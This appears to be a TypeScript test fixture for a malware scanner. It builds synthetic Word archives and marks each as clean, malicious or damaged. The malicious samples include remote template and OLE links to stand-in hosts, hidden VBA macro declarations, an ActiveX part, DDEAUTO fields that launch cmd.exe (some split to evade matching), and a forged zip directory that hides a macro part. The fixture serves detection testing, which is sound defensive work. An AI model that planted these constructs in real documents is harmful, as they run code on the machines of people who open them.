import { DOCX } from '../../extractor-program.ts';
import { makeDocx, makeZip } from '../../make-zip.ts';
import type { HostileFile, Verdict } from './hostile-file.ts';

const file = (name: string, verdict: Verdict, make: HostileFile['make']): HostileFile => ({
  ...{ name, type: DOCX, verdict, make },
});
const KINDS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (kind: string, target: string, mode = 'External') =>
  makeDocx(['x'], {
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a>b" Type="${kind}" Target='${target}' TargetMode="${mode}"/></Relationships>`,
  });
const TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACROS = '<Types><Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const paragraph = (content: string) => `<w:document><w:body><w:p>${content}</w:p></w:body></w:document>`;
const document = (content: string | Buffer) =>
  makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': content });
const WORDS = '<w:r><w:t>Words.</w:t></w:r>';
const field = (...words: string[]) =>
  document(
    paragraph(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words
        .map((each) => `<w:r><w:instrText xml:space="preserve">${each}</w:instrText></w:r>`)
        .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>${WORDS}`,
    ),
  );
const changed = (archive: Buffer, change: (archive: Buffer) => void) => {
  change(archive);
  return archive;
};
const directoryOf = (archive: Buffer) => archive.indexOf('PK\x01\x02', 0, 'latin1');
/** The last file is there, but the directory does not tell of it. */
function withoutLast(archive: Buffer): Buffer {
  const last = archive.lastIndexOf('PK\x01\x02', archive.length, 'latin1');
  const end = Buffer.from(archive.subarray(archive.lastIndexOf('PK\x05\x06', archive.length, 'latin1')));
  for (const at of [8, 10]) end.writeUInt16LE(end.readUInt16LE(at) - 1, at);
  end.writeUInt32LE(last - directoryOf(archive), 12);
  return Buffer.concat([archive.subarray(0, last), end]);
}

/** What runs or loads something on opening, what a directory lies about, and ordinary documents that look like it. */
export const MORE_WORD_DOCUMENTS: readonly HostileFile[] = [
  file('a main part by another name', 'ready', () =>
    makeZip({
      '[Content_Types].xml': `<Types><Override PartName="/word/document2.xml" ContentType="${TYPE}"/></Types>`,
      'word/document2.xml': paragraph(WORDS),
    }),
  ),
  file('a main part in UTF-16', 'ready', () => document(wide(paragraph(WORDS)))),
  file('names with backslashes', 'ready', () =>
    Buffer.from(document(paragraph(WORDS)).toString('latin1').replaceAll('word/', 'word\\'), 'latin1'),
  ),
  file('a thousand pages of the same words', 'ready', () =>
    makeDocx(Array.from({ length: 20_000 }, () => 'Same words.')),
  ),
  file('links and pictures from elsewhere', 'ready', () => related(`${KINDS}/hyperlink`, 'https://site.example/')),
  file('a template on the same machine', 'ready', () =>
    related(`${KINDS}/attachedTemplate`, 'file:///C:\\Users\\Ada\\Normal.dotm'),
  ),
  file('a field that speaks of a program', 'ready', () => field('HYPERLINK "https://site.example/DDE "')),
  file('a template from elsewhere', 'MALWARE_FOUND', () => related(`${KINDS}/attachedTemplate`, 'https://x.example/a')),
  file('an object from elsewhere', 'MALWARE_FOUND', () => related(`${KINDS}/oleObject`, 'mhtml:http://x.example/a!b')),
  file('macros by a relationship', 'MALWARE_FOUND', () =>
    related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin', 'Internal'),
  ),
  file('macros told in UTF-16', 'MALWARE_FOUND', () => makeDocx(['x'], { '[Content_Types].xml': wide(MACROS) })),
  file('macros told by references', 'MALWARE_FOUND', () =>
    makeDocx(['x'], { '[Content_Types].xml': MACROS.replace('vbaP', 'vba&#80;') }),
  ),
  file('a control', 'MALWARE_FOUND', () => makeDocx(['x'], { 'word/activeX/activeX1.xml': '<ax:ocx/>' })),
  file('a field that starts a program', 'MALWARE_FOUND', () => field(' DDEAUTO c:\\\\cmd.exe "/k calc"')),
  file('such a field in parts', 'MALWARE_FOUND', () => field(' DD', 'EAUTO ', 'c:\\\\cmd.exe')),
  file('such a field in short', 'MALWARE_FOUND', () =>
    document(paragraph(`<w:fldSimple w:instr="DDE cmd x">${WORDS}</w:fldSimple>`)),
  ),
  file('a wrong sum', 'DAMAGED', () =>
    changed(makeDocx(['x']), (archive) => archive.writeUInt32LE(1, directoryOf(archive) + 16)),
  ),
  file('a part under two names', 'DAMAGED', () =>
    changed(makeDocx(['x'], { 'word/one.xml': '<a/>' }), (archive) => archive.write('two', archive.indexOf('one'))),
  ),
  file('a part that is not told of', 'DAMAGED', () => withoutLast(makeDocx(['x'], { 'word/vbaProject.bin': 'x' }))),
];
